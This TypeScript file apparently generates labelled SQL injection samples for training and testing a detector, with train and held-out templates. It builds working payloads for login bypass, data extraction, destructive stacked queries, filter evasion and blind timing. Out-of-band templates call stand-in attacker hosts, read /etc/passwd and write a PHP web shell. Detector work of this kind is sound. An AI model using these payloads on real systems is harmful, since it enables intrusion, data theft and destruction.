import type { GeneratorContext } from "./generator-context.js";

/** Attack families the generator knows (the `family` of an injection sample). */
export type AttackFamily =
  | "tautology"
  | "union-based"
  | "error-based"
  | "stacked-queries"
  | "comment-truncation"
  | "boolean-blind"
  | "time-blind"
  | "out-of-band";

/** Where a payload fits: inside a quoted string, in a numeric position, or either. */
export type PayloadContext = "string" | "number";

/** One way of writing an attack of a family. */
export interface AttackTemplate {
  /** `family/name`, unique. */
  readonly id: string;
  /** The family. */
  readonly family: AttackFamily;
  /** The injection point it is written for. */
  readonly context: PayloadContext;
  /** True when only the test split uses this template. */
  readonly heldOut: boolean;
  /** Writes one payload (the attacker-controlled part). */
  make(g: GeneratorContext): string;
}

// Pieces shared by many templates. Each is one of several spellings an attacker uses.
const stringBreak = (g: GeneratorContext) => g.pick(["'", "'", "'", `${g.word()}'`, "')", "'))", `${g.int()}'`, "\"", `${g.word()}")`]);
const numberBreak = (g: GeneratorContext) => g.pick([`${g.int()}`, `${g.int()}`, `-${g.int(1, 9)}`, `${g.int()})`, `${g.int()}))`, "0"]);
const breakFor = (g: GeneratorContext, context: PayloadContext) => (context === "string" ? stringBreak(g) : numberBreak(g));
const tail = (g: GeneratorContext) => g.pick(["--", "-- ", "-- -", "#", "/*", ";--", "", "", "-- x"]);
const or = (g: GeneratorContext) => g.pick([g.kw("or"), g.kw("or"), "||"]);
const and = (g: GeneratorContext) => g.pick([g.kw("and"), g.kw("and"), "&&"]);
const tautology = (g: GeneratorContext) => {
  const n = g.int(0, 99);
  const w = g.pick(["a", "x", "1", g.word()]);
  return g.pick([`${n}=${n}`, `'${w}'='${w}'`, `${n + 1}>${n}`, `${n}<${n + 3}`, `"${w}"="${w}"`, `${n}<>${n + 1}`, `'${w}' ${g.kw("like")} '${w}'`]);
};
const subquery = (g: GeneratorContext) =>
  g.pick([
    `${g.kw("select")} ${g.kw("version")}()`,
    `${g.kw("select")} ${g.kw("user")}()`,
    `${g.kw("select")} ${g.kw("database")}()`,
    `${g.kw("select")} @@version`,
    `${g.kw("select")} ${g.column()} ${g.kw("from")} ${g.table()} ${g.kw("limit")} 1`,
    `${g.kw("select")} ${g.kw("current_user")}`,
  ]);
const nulls = (g: GeneratorContext) => Array.from({ length: g.int(1, 6) }, () => g.pick([g.kw("null"), g.kw("null"), `${g.int(1, 9)}`])).join(",");
const seconds = (g: GeneratorContext) => g.pick([`${g.int(2, 30)}`, "5", "10", "9999"]);
const host = (g: GeneratorContext) => `${g.word()}.${g.pick(["attacker", "oob", "x", "collab"])}.${g.domain()}`;

// Arithmetic splices: the value ends (after a number, a quote or a parenthesis) and an operator joins a second operand.
const arithmeticBreak = (g: GeneratorContext) => g.pick([`${g.int()}`, `${g.int()})`, "'", "')", ")", "))", `-${g.int(1, 9)}`]);
const arithmeticOperator = (g: GeneratorContext) => g.pick(["-", "+", "*", "/", " - ", " + ", " || "]);
const arithmeticTail = (g: GeneratorContext) => g.pick(["", "", ")", "+'", "-'", "||'", "--", "#", "-- -"]);

function template(family: AttackFamily, name: string, context: PayloadContext, heldOut: boolean, make: (g: GeneratorContext) => string): AttackTemplate {
  return { id: `${family}/${name}`, family, context, heldOut, make };
}

/**
 * Every attack template, written by hand from the families' mechanics (no payload list
 * was copied). About a third of each family's templates are held out for the test split.
 */
export const ATTACK_TEMPLATES: readonly AttackTemplate[] = [
  // Tautologies: make a WHERE clause always true.
  template("tautology", "or-comparison", "string", false, (g) => `${stringBreak(g)} ${or(g)} ${tautology(g)}${tail(g)}`),
  template("tautology", "or-balanced-quotes", "string", false, (g) => {
    const w = g.pick(["a", "1", "x", g.word()]);
    return `${g.pick(["'", `${g.word()}'`])} ${or(g)} '${w}'='${w}`;
  }),
  template("tautology", "numeric-or", "number", false, (g) => `${numberBreak(g)} ${or(g)} ${tautology(g)}${g.pick(["", "", tail(g)])}`),
  template("tautology", "or-limit", "string", false, (g) => `${stringBreak(g)} ${or(g)} ${tautology(g)} ${g.kw("limit")} ${g.int(1, 5)}${tail(g)}`),
  // Added in the generalisation round: a logic operator followed by an operand that is
  // true on its own (a column, an IS NOT NULL test), not by a comparison.
  template("tautology", "or-truthy-operand", "number", false, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${g.kw("or")} ${g.pick([`${g.int(2, 99)} ${g.kw("is")} ${g.kw("not")} ${g.kw("null")}`, `${g.column()} ${g.kw("is")} ${g.kw("not")} ${g.kw("null")}`, `${g.kw("not")} ${g.column()} ${g.kw("is")} ${g.kw("null")}`, `(${g.int(2, 99)})`])}${g.pick(["", tail(g)])}`),
  template("tautology", "or-boolean-literal", "number", true, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${or(g)} ${g.pick([g.kw("true"), `${g.kw("not")} ${g.kw("false")}`, "1", `${g.kw("not")} 0`])}${g.pick(["", tail(g)])}`),
  template("tautology", "or-in-list", "string", true, (g) => {
    const n = g.int(1, 50);
    return `${stringBreak(g)} ${or(g)} ${n} ${g.kw("in")} (${n},${n + 1})${tail(g)}`;
  }),
  template("tautology", "or-between", "number", true, (g) => {
    const n = g.int(1, 50);
    return `${numberBreak(g)} ${or(g)} ${n} ${g.kw("between")} ${n - 1} ${g.kw("and")} ${n + 1}${tail(g)}`;
  }),

  // UNION-based: append a second SELECT whose rows come back with the page.
  template("union-based", "union-nulls", "string", false, (g) => `${stringBreak(g)} ${g.kw("union")} ${g.pick(["", g.kw("all") + " "])}${g.kw("select")} ${nulls(g)}${tail(g)}`),
  template("union-based", "union-columns", "number", false, (g) => `${numberBreak(g)} ${g.kw("union")} ${g.pick(["", g.kw("all") + " "])}${g.kw("select")} ${g.columns(g.int(1, 3))} ${g.kw("from")} ${g.table()}${tail(g)}`),
  template("union-based", "union-functions", "string", false, (g) => `${stringBreak(g)} ${g.kw("union")} ${g.kw("select")} ${g.pick(["version()", "user()", "database()", "@@version", "current_user", "1"])},${nulls(g)}${tail(g)}`),
  template("union-based", "order-by-probe", "number", false, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${g.kw("order")} ${g.kw("by")} ${g.int(1, 20)}${tail(g)}`),
  template("union-based", "false-and-union", "number", false, (g) => `${numberBreak(g)} ${g.kw("and")} 1=0 ${g.kw("union")} ${g.kw("select")} ${nulls(g)}${tail(g)}`),
  template("union-based", "union-information-schema", "string", true, (g) => `${stringBreak(g)} ${g.kw("union")} ${g.kw("select")} ${g.pick(["table_name", "column_name", "table_schema"])},${nulls(g)} ${g.kw("from")} information_schema.${g.pick(["tables", "columns"])}${tail(g)}`),
  template("union-based", "union-group-concat", "string", true, (g) => `${stringBreak(g)}) ${g.kw("union")} ${g.kw("select")} ${g.pick(["group_concat", "string_agg"])}(${g.column()}) ${g.kw("from")} ${g.table()} ${g.kw("where")} ${g.column()}='${g.word()}'${tail(g)}`),
  template("union-based", "union-sqlite-master", "number", true, (g) => `${numberBreak(g)} ${g.kw("union")} ${g.kw("select")} ${g.pick(["name", "sql", "sqlite_version()"])},${nulls(g)} ${g.kw("from")} sqlite_master${tail(g)}`),

  // Error-based: make the database put data into an error message.
  template("error-based", "extractvalue", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("extractvalue")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)})))${tail(g)}`),
  template("error-based", "updatexml", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("updatexml")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)}),0x7e),${g.int(1, 9)})${tail(g)}`),
  template("error-based", "cast-to-int", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("cast")}((${subquery(g)}) ${g.kw("as")} ${g.pick(["int", "integer", "numeric"])})${tail(g)}`),
  template("error-based", "oracle-inaddr", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.pick(["utl_inaddr.get_host_name", "ctxsys.drithsx.sn"])}((${subquery(g)}))${tail(g)}`),
  template("error-based", "geometry", "number", false, (g) => `${numberBreak(g)} ${and(g)} ${g.pick(["geometrycollection", "polygon", "multipoint"])}((${g.kw("select")} * ${g.kw("from")}(${g.kw("select")} * ${g.kw("from")}(${subquery(g)})a)b))${tail(g)}`),
  // Added in the generalisation round: an error-raising function as an operand of arithmetic.
  template("error-based", "arithmetic-error", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`${g.kw("extractvalue")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)})))`, `${g.kw("updatexml")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)})),${g.int(1, 9)})`, `${g.kw("cast")}((${subquery(g)}) ${g.kw("as")} ${g.kw("int")})`])}${arithmeticTail(g)}`),
  template("error-based", "convert-int", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("convert")}(int,(${subquery(g)}))${tail(g)}`),
  template("error-based", "double-query", "string", true, (g) => `${stringBreak(g)} ${and(g)} (${g.kw("select")} 1 ${g.kw("from")}(${g.kw("select")} ${g.kw("count")}(*),${g.kw("concat")}((${subquery(g)}),${g.kw("floor")}(${g.kw("rand")}(0)*2))x ${g.kw("from")} information_schema.tables ${g.kw("group")} ${g.kw("by")} x)a)${tail(g)}`),
  template("error-based", "exp-overflow", "number", true, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("exp")}(~(${g.kw("select")} * ${g.kw("from")} (${subquery(g)})a))${tail(g)}`),

  // Stacked queries: end the statement and run another one.
  template("stacked-queries", "drop-table", "string", false, (g) => `${stringBreak(g)}; ${g.kw("drop")} ${g.kw("table")} ${g.table()}${tail(g)}`),
  template("stacked-queries", "insert-row", "number", false, (g) => `${numberBreak(g)}; ${g.kw("insert")} ${g.kw("into")} ${g.table()} (${g.column()},${g.column()}) ${g.kw("values")} ('${g.word()}','${g.word()}')${tail(g)}`),
  template("stacked-queries", "xp-cmdshell", "string", false, (g) => `${stringBreak(g)}; ${g.kw("exec")} ${g.pick(["xp_cmdshell", "master..xp_cmdshell"])} '${g.pick(g.pools.commands)}'${tail(g)}`),
  template("stacked-queries", "delete-all", "number", false, (g) => `${numberBreak(g)}; ${g.kw("delete")} ${g.kw("from")} ${g.table()}${tail(g)}`),
  template("stacked-queries", "select-after", "string", false, (g) => `${stringBreak(g)}; ${g.kw("select")} ${g.pick(["*", g.column()])} ${g.kw("from")} ${g.table()}${tail(g)}`),
  template("stacked-queries", "update-role", "string", true, (g) => `${stringBreak(g)}; ${g.kw("update")} ${g.table()} ${g.kw("set")} ${g.column()}='${g.word()}' ${g.kw("where")} ${g.column()}='${g.word()}'${tail(g)}`),
  // Added in the robustness round: a whole statement whose keywords are split by empty
  // comments (`SEL/**/ECT … FR/**/OM …`). Nobody writes SQL that way; it only serves to
  // slip a statement past keyword filters, so the split itself is the evidence (every
  // keyword is split, so the rest shares few n-grams with benign statements). Only
  // SELECT and DELETE here, so the held-out probes (DROP, UPDATE) test the idea.
  template("stacked-queries", "comment-split-statement", "number", false, (g) => {
    const split = (word: string) => {
      const cut = g.int(1, word.length - 1);
      return `${word.slice(0, cut)}/**/${word.slice(cut)}`;
    };
    const kw = (word: string) => split(g.kw(word));
    const where = () => (g.chance(0.5) ? ` ${kw("where")} ${g.column()} = ${g.pick([`${g.int()}`, `'${g.word()}'`])}` : "");
    return g.chance(0.6)
      ? `${kw("select")} ${g.pick(["*", g.columns(g.int(1, 3))])} ${kw("from")} ${g.table()}${where()}`
      : `${kw("delete")} ${kw("from")} ${g.table()}${where()}`;
  }),
  template("stacked-queries", "shutdown", "number", true, (g) => `${numberBreak(g)}; ${g.pick([g.kw("shutdown"), `${g.kw("truncate")} ${g.kw("table")} ${g.table()}`])}${tail(g)}`),
  template("stacked-queries", "alter-or-create", "string", true, (g) => `${stringBreak(g)}; ${g.pick([`${g.kw("alter")} ${g.kw("table")} ${g.table()} ${g.kw("drop")} ${g.kw("column")} ${g.column()}`, `${g.kw("create")} ${g.kw("user")} ${g.word()} ${g.kw("identified")} ${g.kw("by")} '${g.word()}'`])}${tail(g)}`),

  // Comment truncation: close the string and comment out the rest (the password check).
  template("comment-truncation", "quote-dashes", "string", false, (g) => `${g.pick(["admin", g.word(), ""])}'${g.pick(["--", " --", "-- -", " -- "])}`),
  template("comment-truncation", "quote-hash", "string", false, (g) => `${g.pick(["admin", g.word(), ""])}'${g.pick(["#", " #"])}`),
  template("comment-truncation", "paren-dashes", "string", false, (g) => `${g.pick(["admin", g.word()])}${g.pick(["')", "\")", "'))", "\""])}${g.pick(["--", " --", "#"])}`),
  template("comment-truncation", "quote-block-comment", "string", true, (g) => `${g.pick(["admin", g.word(), ""])}'${g.pick(["/*", " /*"])}`),
  template("comment-truncation", "quote-semicolon-comment", "string", true, (g) => `${g.pick(["admin", g.word()])}'${g.pick([";--", "; #", ";/*"])}`),

  // Boolean-based blind: ask yes/no questions through the page's behaviour.
  template("boolean-blind", "numeric-and", "number", false, (g) => {
    const n = g.int(0, 99);
    return `${numberBreak(g)} ${and(g)} ${n}=${g.pick([n, n + 1])}${g.pick(["", tail(g)])}`;
  }),
  template("boolean-blind", "string-and", "string", false, (g) => {
    const w = g.pick(["a", "x", g.word()]);
    return `${g.pick(["'", `${g.word()}'`])} ${and(g)} '${w}'='${g.pick([w, w + "b"])}`;
  }),
  template("boolean-blind", "substring-compare", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick(["substring", "substr", "mid"])}((${subquery(g)}),${g.int(1, 20)},1)='${g.pick([..."abcdefghijklmnopqrstuvwxyz0123456789"])}'${tail(g)}`),
  template("boolean-blind", "length-or-count", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick([`${g.kw("length")}((${subquery(g)}))=${g.int(1, 30)}`, `(${g.kw("select")} ${g.kw("count")}(*) ${g.kw("from")} ${g.table()})>${g.int(0, 9)}`])}${tail(g)}`),
  template("boolean-blind", "and-boolean-literal", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick([g.kw("true"), g.kw("false"), `${g.kw("not")} ${g.kw("true")}`])}${tail(g)}`),
  // Added in the generalisation round: the value becomes an operand of arithmetic whose
  // other operand asks the question.
  template("boolean-blind", "arithmetic-condition", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`(${g.kw("select")} ${g.kw("count")}(*) ${g.kw("from")} ${g.table()})`, `${g.kw("if")}(${g.int(1, 9)}=${g.int(1, 9)},1,0)`, `(${subquery(g)})`, `${g.kw("length")}((${subquery(g)}))`])}${arithmeticTail(g)}`),
  template("boolean-blind", "ascii-substr", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("ascii")}(${g.kw("substr")}((${subquery(g)}),${g.int(1, 20)},1))>${g.int(32, 126)}${tail(g)}`),
  template("boolean-blind", "exists-like", "number", true, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("exists")}(${g.kw("select")} * ${g.kw("from")} ${g.table()} ${g.kw("where")} ${g.column()} ${g.kw("like")} '${g.pick([..."abcdefghij"])}%')${tail(g)}`),
  template("boolean-blind", "if-branch", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("if")}(${g.int(1, 9)}>${g.int(0, 9)},1,0)${tail(g)}`),

  // Time-based blind: answer through a delay.
  template("time-blind", "and-sleep", "number", false, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${g.pick([and(g), or(g)])} ${g.kw("sleep")}(${seconds(g)})${g.pick(["", tail(g)])}`),
  template("time-blind", "waitfor-delay", "string", false, (g) => `${stringBreak(g)}; ${g.kw("waitfor")} ${g.kw("delay")} '0:0:${g.int(2, 30)}'${tail(g)}`),
  template("time-blind", "pg-sleep", "string", false, (g) => `${stringBreak(g)}${g.pick([`; ${g.kw("select")} pg_sleep(${seconds(g)})`, ` || pg_sleep(${seconds(g)})`, ` ${g.kw("and")} 1=(${g.kw("select")} 1 ${g.kw("from")} pg_sleep(${seconds(g)}))`])}${tail(g)}`),
  template("time-blind", "benchmark", "number", false, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("benchmark")}(${g.int(1, 9)}000000,${g.pick(["md5", "sha1"])}(${g.int(1, 9)}))${tail(g)}`),
  template("time-blind", "randomblob", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("like")}('abc',${g.kw("upper")}(${g.kw("hex")}(${g.kw("randomblob")}(${g.int(1, 9)}00000000))))${tail(g)}`),
  template("time-blind", "if-sleep", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("if")}(${g.int(1, 9)}=${g.int(1, 9)},${g.kw("sleep")}(${seconds(g)}),0)${tail(g)}`),
  // Added in the generalisation round: a delay function as an operand of arithmetic.
  template("time-blind", "arithmetic-delay", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`pg_sleep(${seconds(g)})`, `(${g.kw("select")} pg_sleep(${seconds(g)}))`, `${g.kw("benchmark")}(${g.int(1, 9)}000000,md5(${g.int(1, 9)}))`, `${g.kw("randomblob")}(${g.int(1, 9)}00000000)`, `${g.kw("if")}(1=1,${g.kw("benchmark")}(${g.int(1, 9)}000000,sha1(1)),0)`])}${arithmeticTail(g)}`),
  template("time-blind", "arithmetic-sleep", "number", true, (g) => `${g.pick([")", "')", `${g.int()})`, "'", `${g.int()}`])}${g.pick(["-", "+", "*"])}${g.kw("sleep")}(${seconds(g)}${g.pick(["", ")", ")#"])}`),
  template("time-blind", "nested-sleep", "string", true, (g) => `${stringBreak(g)} ${and(g)} (${g.kw("select")} * ${g.kw("from")} (${g.kw("select")}(${g.kw("sleep")}(${seconds(g)})))a)${tail(g)}`),
  template("time-blind", "oracle-pipe", "string", true, (g) => `${stringBreak(g)} ${and(g)} 1=dbms_pipe.receive_message(('${g.word()}'),${seconds(g)})${tail(g)}`),

  // Out-of-band: make the server talk to a host the attacker watches, or write files.
  template("out-of-band", "xp-dirtree", "string", false, (g) => `${stringBreak(g)}; ${g.kw("exec")} master..xp_dirtree '\\\\${host(g)}\\${g.word()}'${tail(g)}`),
  template("out-of-band", "load-file", "string", false, (g) => `${stringBreak(g)} ${g.kw("union")} ${g.kw("select")} ${g.kw("load_file")}('${g.pick([`\\\\\\\\${host(g)}\\\\${g.word()}`, "/etc/passwd", "c:\\\\boot.ini"])}')${tail(g)}`),
  template("out-of-band", "copy-to-program", "string", false, (g) => `${stringBreak(g)}; ${g.kw("copy")} (${g.kw("select")} '') ${g.kw("to")} ${g.kw("program")} '${g.pick(["nslookup", "curl", "ping"])} ${host(g)}'${tail(g)}`),
  template("out-of-band", "into-outfile", "string", false, (g) => `${stringBreak(g)} ${g.kw("union")} ${g.kw("select")} '${g.pick(["<?php system($_GET[0]); ?>", "x", g.word()])}' ${g.kw("into")} ${g.pick(["outfile", "dumpfile"])} '/var/www/${g.word()}.php'${tail(g)}`),
  template("out-of-band", "httpuritype", "number", false, (g) => `${numberBreak(g)} ${and(g)} 1=(${g.kw("select")} httpuritype('http://${host(g)}/').getclob() ${g.kw("from")} dual)${tail(g)}`),
  template("out-of-band", "utl-http", "string", true, (g) => `${stringBreak(g)} ${and(g)} utl_http.request('http://${host(g)}/'||(${subquery(g)}))=1${tail(g)}`),
  template("out-of-band", "xp-fileexist", "string", true, (g) => `${stringBreak(g)}; ${g.kw("declare")} @q varchar(99); ${g.kw("set")} @q='\\\\${host(g)}\\a'; ${g.kw("exec")} master.dbo.xp_fileexist @q${tail(g)}`),
  template("out-of-band", "dbms-ldap", "number", true, (g) => `${numberBreak(g)} ${and(g)} (${g.kw("select")} dbms_ldap.init(('${host(g)}'),80) ${g.kw("from")} dual) ${g.kw("is")} ${g.kw("not")} ${g.kw("null")}${tail(g)}`),
];
